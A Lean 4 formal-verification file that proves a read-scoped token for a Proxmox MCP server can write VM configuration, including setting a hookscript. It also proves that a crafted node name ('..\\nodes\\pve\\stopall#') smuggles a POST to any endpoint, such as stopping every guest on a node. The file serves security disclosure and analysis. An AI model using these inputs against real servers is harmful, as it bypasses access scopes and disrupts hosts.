/-
  File:      ProxmoxMcp/ReadScopeGaps.lean
  Subject:   WHAT `proxmox.read` ALONE CAN CHANGE: two read tools send requests that change Proxmox,
             and the scope of the token has no say in it.

  `proxmox_vm_update_config` counts as a read, since `_config` is no word of the pattern: it writes
  whatever the policies and the catalog let through. `proxmox_console_ticket` puts the name of the
  node into its path as it is; the URL parser takes a backslash for a slash and cuts the path at
  `#`, so a name of that kind turns the request for a ticket into a POST to any endpoint.

  * `apiCall_sends_iff` -- when an API call sends a request, in some run;
  * `readToken_updates_iff` -- a read token writes a configuration exactly where an API call could;
  * `readToken_posts` -- a read token posts to the endpoint of any words.
-/
import ProxmoxMcp.ToolScopes

namespace ProxmoxMcp

open Js Effects Prog

variable [Text.Unicode]

/-! ## 1. What an API call sends -/

/-- Some run of the program performs this effect. -/
def Performs {α : Type} (p : M α) (e : Effect) : Prop :=
  ∃ t o, Run p t o ∧ ∃ step ∈ t, step.1 = e

/-- What a request on a target is for. -/
def directSend (target : TargetRef) (request : RestRequest) : Effect :=
  .send ⟨⟨.direct, target, none⟩, target.cluster, request⟩

/-- The request that an API call ends in: the policies permit it, the catalog validates it, and it
    is built from the validated arguments. -/
def Sendable (S : Service) (target : TargetRef) (method path : String)
    (args : List (String × Value)) (request : RestRequest) : Prop :=
  Permits S.config.policies target (.api method) ∧
    ∃ validated config, validate S.catalog method path args = .ok validated ∧
      getCluster S.config target.cluster = .ok config ∧
      buildRequest config method path validated.args = .ok request

section Rules

variable {S : Service} {target : TargetRef} {method path : String} {args : List (String × Value)}
  {request : RestRequest} {h : History} {e : Effect}

omit [Text.Unicode] in
theorem performs_of_does {α : Type} {p : M α} (hdoes : Does (fun e' => e' = e) quietAnswer p) :
    Performs p e := by
  obtain ⟨t, hrun, ht⟩ := exists_run_endsIn quietAnswer p
  exact ⟨t, _, hrun, (ht _).mp hdoes⟩

omit [Text.Unicode] in
theorem does_after {α β : Type} {p : M α} {f : α → M β} {a : α} {P : Effect → Prop}
    (hp : p.endsIn quietAnswer = .ok a) (hf : Does P quietAnswer (f a)) :
    Does P quietAnswer (p >>= f) :=
  does_bind.mpr (.inr ⟨a, hp, hf⟩)

omit [Text.Unicode] in
theorem does_first {α β : Type} {p : M α} {f : α → M β} {P : Effect → Prop}
    (hp : Does P quietAnswer p) : Does P quietAnswer (p >>= f) :=
  does_bind.mpr (.inl hp)

omit [Text.Unicode] in
theorem ensureCluster_quiet {cluster : String} :
    (S.ensureCluster cluster).endsIn quietAnswer = .ok () := by
  unfold Service.ensureCluster
  split <;> rfl

/-- A request is sent, in the world in which nothing fails. -/
theorem does_apiRequest {purpose : Purpose} {cluster : String} {config : ClusterConfig}
    (hconfig : getCluster S.config cluster = .ok config)
    (hbuilt : buildRequest config method path args = .ok request) :
    Does (fun e => e = .send ⟨purpose, cluster, request⟩) quietAnswer
      (S.apiRequest purpose cluster method path args) := by
  have hheaders : (buildHeaders cluster config).endsIn quietAnswer = .ok () := rfl
  unfold Service.apiRequest
  refine does_after ensureCluster_quiet (does_tryCatch.mpr (.inl ?_))
  rw [Service.request, hconfig, ofExcept_ok_bind, hbuilt, ofExcept_ok_bind]
  exact does_after hheaders (does_first (does_first (.inl rfl)))

/-- **An API call sends what is sendable**, in that world. -/
theorem does_proxmoxApiCall (hsend : Sendable S target method path args request) :
    Does (fun e => e = directSend target request) quietAnswer
      (S.proxmoxApiCall target method path args) := by
  obtain ⟨hpermits, validated, config, hvalid, hconfig, hbuilt⟩ := hsend
  have hassert : (S.assertPermission target (.api method)).endsIn quietAnswer = .ok () := by
    rw [Service.assertPermission, show assertAccess _ _ _ = .ok () from hpermits]
    rfl
  have haudit : ∀ fields, (S.auditRecord "proxmox_api_call" target fields).endsIn quietAnswer =
      .ok () := fun _ => rfl
  unfold Service.proxmoxApiCall
  refine does_after hassert ?_
  rw [hvalid, ofExcept_ok_bind]
  exact does_after (haudit _) (does_first (does_apiRequest hconfig hbuilt))

omit [Text.Unicode] in
/-- What is performed is admitted. -/
theorem performs_admitted {α : Type} {p : M α} {ok : History → Effect → Prop}
    (hp : Admitted ok p []) (hperforms : Performs p e) : ∃ h, ok h e := by
  obtain ⟨t, o, hrun, step, hstep, rfl⟩ := hperforms
  have hsafe := (safe_iff_run reply_nonempty).mp hp t o hrun
  obtain ⟨pre, post, hsplit⟩ := List.append_of_mem hstep
  exact ⟨_, (respects_iff _ t []).mp hsafe.1 pre step post hsplit⟩

/-- No other request than a sendable one is no GET. -/
def SendsOnly (S : Service) (target : TargetRef) (method path : String)
    (args : List (String × Value)) (_ : History) (e : Effect) : Prop :=
  ∀ request, request.method ≠ "GET" → e = directSend target request →
    Sendable S target method path args request

theorem looking_sendsOnly : Looking (SendsOnly S target method path args) where
  quiet h e he request _ hsend := by
    rw [hsend] at he
    cases he
  gets hguest h' _ sent his request hmethod hsend := by
    have hrequest : sent.request = request := by
      cases hsend
      rfl
    rw [← hrequest, his.2.2, toUpperCase_get] at hmethod
    exact absurd rfl hmethod

/-- The API call itself is within that. -/
theorem sendsOnly_proxmoxApiCall :
    Admitted (SendsOnly S target method path args) (S.proxmoxApiCall target method path args) h := by
  refine safe_proxmoxApiCall_validated looking_sendsOnly fun h' validated _ ha hvalid => ?_
  intro h'' _ config built hconfig hbuilt request _ hsend
  have hrequest : built = request := by
    cases hsend
    rfl
  rw [← hrequest]
  exact ⟨ha.permits _ List.mem_cons_self, validated, config, hvalid, hconfig, hbuilt⟩

/-- **An API call sends a request, in some run, exactly where it is sendable.** -/
theorem apiCall_sends_iff (hmethod : request.method ≠ "GET") :
    Performs (S.proxmoxApiCall target method path args) (directSend target request) ↔
      Sendable S target method path args request := by
  refine ⟨fun hperforms => ?_, fun hsend => performs_of_does (does_proxmoxApiCall hsend)⟩
  obtain ⟨_, hok⟩ := performs_admitted sendsOnly_proxmoxApiCall hperforms
  exact hok request hmethod rfl

end Rules

/-! ## 2. The configuration of a VM -/

theorem scopes_vmUpdateConfig {cluster : String} {vmid : Nat} {node : Option String}
    {args : List (String × Value)} :
    (ToolCall.vmUpdateConfig cluster vmid node args).scopes = [.read] := by
  simp only [ToolCall.scopes, ToolCall.name]
  rfl

/-- The gate lets a token pass that names the one scope of the tool. -/
theorem does_callTool {S : Service} {execution : Execution} {call : ToolCall} {P : Effect → Prop}
    (hscopes : call.scopes = [.read]) (hdoes : Does P quietAnswer (call.perform S execution)) :
    Does P quietAnswer (S.callTool (some [.read]) execution call) := by
  have hcheck : checkScopes S.config (some [.read]) call = .ok () :=
    checkScopes_ok.mpr fun _ => ⟨[.read], rfl, by rw [hscopes]; exact List.Subset.refl _⟩
  unfold Service.callTool
  rw [hcheck]
  exact hdoes

/-- **With `proxmox.read` alone, a configuration is written exactly where the policies permit the
    PUT and the catalog validates it.** -/
theorem readToken_updates_iff (S : Service) (execution : Execution) (cluster node : String)
    (vmid : Nat) (args : List (String × Value)) (request : RestRequest)
    (hmethod : request.method ≠ "GET") :
    Performs (S.callTool (some [.read]) execution (.vmUpdateConfig cluster vmid (some node) args))
        (directSend (guestSite cluster .qemu node vmid) request) ↔
      Sendable S (guestSite cluster .qemu node vmid) "PUT" (guestEndpoint .qemu node vmid "/config")
        args request := by
  have herase : (S.vmUpdateConfigWithin execution.timeout cluster vmid args (some node)).erase =
      S.proxmoxApiCall (guestSite cluster .qemu node vmid) "PUT"
        (guestEndpoint .qemu node vmid "/config") args := erase_vmEndpointWithin
  constructor
  · intro hperforms
    have hadmitted : Admitted (SendsOnly S (guestSite cluster .qemu node vmid) "PUT"
        (guestEndpoint .qemu node vmid "/config") args)
        (S.callTool (some [.read]) execution (.vmUpdateConfig cluster vmid (some node) args)) [] := by
      refine safe_ofExcept_bind fun _ _ => safe_taskTool looking_sendsOnly ?_
      rw [herase]
      exact sendsOnly_proxmoxApiCall
    obtain ⟨_, hok⟩ := performs_admitted hadmitted hperforms
    exact hok request hmethod rfl
  · intro hsend
    refine performs_of_does (does_callTool scopes_vmUpdateConfig (does_first ?_))
    rw [herase]
    exact does_proxmoxApiCall hsend

/-- `POST /nodes/{node}/termproxy`. -/
def termproxyEndpoint : ApiMethodDescriptor where
  method := "POST"
  template := ⟨[.word "nodes".toList, .param "node", .word "termproxy".toList], by decide, by decide⟩

/-- `PUT /nodes/{node}/qemu/{vmid}/config`. -/
def qemuConfigEndpoint : ApiMethodDescriptor where
  method := "PUT"
  template := ⟨[.word "nodes".toList, .param "node", .word "qemu".toList, .param "vmid",
    .word "config".toList], by decide, by decide⟩

/-- A server with the production policy that asks for bearer tokens. -/
def scopedService : Service where
  config :=
    { mcpAuth := .oidc, clusters := [exampleCluster], policies := [defaultProductionPolicy] }
  catalog := [termproxyEndpoint, qemuConfigEndpoint]

/-- What the VM is told. -/
def hookArgs : List (String × Value) := [("hookscript", .str "local:snippets/hook.pl")]

/-- The request that tells it. -/
def hookRequest : RestRequest where
  method := "PUT"
  url := ⟨exampleCluster.authority.val.toList,
    ⟨["api2", "json", "nodes", "pve", "qemu", "100", "config"].map String.toList, none, none⟩⟩
  body := some "hookscript=local%3Asnippets%2Fhook.pl".toList

omit [Text.Unicode] in
/-- **The production policy lets a read token set the hook script of a VM.** -/
theorem readToken_updates_iff_hook :
    letI := Text.asciiCase
    Performs (scopedService.callTool (some [.read]) { rounds := 1 }
        (.vmUpdateConfig "default" 100 (some "pve") hookArgs))
      (directSend (guestSite "default" .qemu "pve" 100) hookRequest) := by
  let := Text.asciiCase
  refine (readToken_updates_iff scopedService { rounds := 1 } "default" "pve" 100 hookArgs
    hookRequest (by decide)).mpr ⟨by decide +kernel, ?_⟩
  exact ⟨⟨qemuConfigEndpoint, ["pve".toList, "100".toList], hookArgs⟩, exampleCluster, rfl, rfl,
    by decide +kernel⟩

/-! ## 3. The tickets of a console -/

/-- The name of a node that leads out of the path of the nodes and cuts off what follows it. -/
def escapingNode (ws : List (List Char)) : String :=
  String.ofList ("..\\".toList ++ Text.joinWith ['\\'] ws ++ ['#'])

/-- The path of a ticket for that node. -/
def escapingPath (ws : List (List Char)) : String := "/nodes/" ++ escapingNode ws ++ "/termproxy"

/-- The words of an endpoint: what the parser leaves as it is, and no dots. -/
structure EndpointWords (ws : List (List Char)) : Prop where
  nonempty : ws ≠ []
  safe : ∀ w ∈ ws, ∀ c ∈ w, Url.PathSafe c
  plain : ∀ w ∈ ws, Url.isDotSegment w = false

omit [Text.Unicode] in
/-- The path, as the parser reads it. -/
theorem escapingPath_toList (ws : List (List Char)) :
    "api2/json".toList ++ (escapingPath ws).toList =
      "api2/json/nodes/..\\".toList ++
        (Text.joinWith ['\\'] ws ++ '#' :: "/termproxy".toList) := by
  simp [escapingPath, escapingNode]

omit [Text.Unicode] in
theorem trimmed_escapingPath {ws : List (List Char)} (hws : EndpointWords ws) :
    Url.trimmed ("api2/json".toList ++ (escapingPath ws).toList) =
      "api2/json".toList ++ (escapingPath ws).toList := by
  have hkept : ∀ {t : List Char},
      (t.all fun c => !Url.isC0OrSpace c && !Url.isTabOrNewline c) = true →
        ∀ c ∈ t, Url.isC0OrSpace c = false ∧ Url.isTabOrNewline c = false := by
    intro t hall c hc
    simpa using List.all_eq_true.mp hall c hc
  have hhead := hkept (t := "api2/json/nodes/..\\".toList) (by decide)
  have htail := hkept (t := '#' :: "/termproxy".toList) (by decide)
  refine Url.trimmed_of_kept fun c hc => ?_
  rw [escapingPath_toList, List.mem_append, List.mem_append] at hc
  rcases hc with hc | hc | hc
  · exact hhead c hc
  · rcases Text.mem_joinWith hc with ⟨w, hw, hcw⟩ | hsep
    · have hsafe := hws.safe w hw c hcw
      exact ⟨hsafe.not_stripped, hsafe.not_removed⟩
    · rw [List.mem_singleton.mp hsep]
      decide
  · exact htail c hc

omit [Text.Unicode] in
/-- **The URL of that ticket is the endpoint of the words.** -/
theorem parseHttps_escapingPath {config : ClusterConfig} {ws : List (List Char)}
    (hws : EndpointWords ws) :
    Url.parseHttps (baseUrl config (escapingPath ws)) =
      some ⟨config.authority.val.toList, ⟨["api2".toList, "json".toList] ++ ws, none,
        some "/termproxy".toList⟩⟩ := by
  have hwords := Url.pathState_words "/termproxy".toList ["api2".toList, "json".toList]
    hws.nonempty hws.safe hws.plain
  rw [baseUrl_eq, Url.parseHttps_path config.authority.property, trimmed_escapingPath hws,
    escapingPath_toList]
  rw [show Url.fragmentState "/termproxy".toList = "/termproxy".toList by decide] at hwords
  exact congrArg (fun tail => some (Url.Parsed.mk config.authority.val.toList tail)) hwords

/-- The POST to the endpoint of the words, without arguments. -/
def endpointPost (config : ClusterConfig) (ws : List (List Char)) : RestRequest where
  method := "POST"
  url := ⟨config.authority.val.toList, ⟨["api2".toList, "json".toList] ++ ws, none,
    some "/termproxy".toList⟩⟩
  body := some []

theorem buildRequest_escapingPath {config : ClusterConfig} {ws : List (List Char)}
    (hws : EndpointWords ws) :
    buildRequest config "POST" (escapingPath ws) [] = .ok (endpointPost config ws) := by
  have hpost : Text.toUpperCase "POST" = "POST" := ApiMethod.toUpperCase_text .POST
  unfold buildRequest
  rw [parseHttps_escapingPath hws]
  simp only [hpost]
  rfl

theorem scopes_consoleTicket {cluster : String} {targetKind : ConsoleTarget} {node : Option String}
    {vmid : Option Nat} {scope : ConsoleScope} :
    (ToolCall.consoleTicket cluster targetKind node vmid scope).scopes = [.read] := by
  simp only [ToolCall.scopes, ToolCall.name]
  rfl

/-- **With `proxmox.read` alone, a ticket posts to the endpoint of any words**, wherever the
    policies permit the POST on a node of that name and the catalog takes its path for one of its
    own. -/
theorem readToken_posts (S : Service) (execution : Execution) (cluster : String)
    (config : ClusterConfig) (hconfig : getCluster S.config cluster = .ok config)
    (ws : List (List Char)) (hws : EndpointWords ws)
    (hpermits : Permits S.config.policies (nodeSite cluster (escapingNode ws)) (.api "POST"))
    (validated : ApiMatch) (hvalid : validate S.catalog "POST" (escapingPath ws) [] = .ok validated)
    (hargs : validated.args = []) :
    Performs (S.callTool (some [.read]) execution
        (.consoleTicket cluster .node (some (escapingNode ws)) none .shell))
      (directSend (nodeSite cluster (escapingNode ws)) (endpointPost config ws)) := by
  have hne : escapingNode ws ≠ "" := fun e => by
    have hempty := congrArg String.toList e
    rw [escapingNode, String.toList_ofList] at hempty
    cases hempty
  have hnode : nonEmpty (some (escapingNode ws)) = some (escapingNode ws) :=
    Option.filter_eq_some_iff.mpr ⟨rfl, decide_eq_true hne⟩
  have hpath : consolePath cluster .node (some (escapingNode ws)) none .shell =
      .ok (nodeSite cluster (escapingNode ws), escapingPath ws) := by
    simp only [consolePath, hnode]
    rfl
  have hbuilt : buildRequest config "POST" (escapingPath ws) validated.args =
      .ok (endpointPost config ws) := by
    rw [hargs]
    exact buildRequest_escapingPath hws
  refine performs_of_does (does_callTool scopes_consoleTicket (does_first ?_))
  rw [Service.consoleTicket, hpath, ofExcept_ok_bind]
  exact does_proxmoxApiCall ⟨hpermits, validated, config, hvalid, hconfig, hbuilt⟩

/-- `nodes/pve/stopall`. -/
def stopallWords : List (List Char) := ["nodes".toList, "pve".toList, "stopall".toList]

omit [Text.Unicode] in
theorem endpointWords_stopall : EndpointWords stopallWords where
  nonempty := by decide
  safe w hw c hc := by
    have hall : (stopallWords.all fun w => w.all Url.isComponentChar) = true := by decide
    exact Url.pathSafe_of_component (List.all_eq_true.mp (List.all_eq_true.mp hall w hw) c hc)
  plain := by decide

omit [Text.Unicode] in
/-- **The production policy lets a read token stop every guest of a node.** -/
theorem readToken_posts_stopall :
    letI := Text.asciiCase
    Performs (scopedService.callTool (some [.read]) { rounds := 1 }
        (.consoleTicket "default" .node (some "..\\nodes\\pve\\stopall#") none .shell))
      (directSend (nodeSite "default" "..\\nodes\\pve\\stopall#")
        (endpointPost exampleCluster stopallWords)) := by
  let := Text.asciiCase
  exact readToken_posts scopedService { rounds := 1 } "default" exampleCluster rfl stopallWords
    endpointWords_stopall (by decide +kernel)
    ⟨termproxyEndpoint, ["..\\nodes\\pve\\stopall#".toList], []⟩ rfl rfl

end ProxmoxMcp
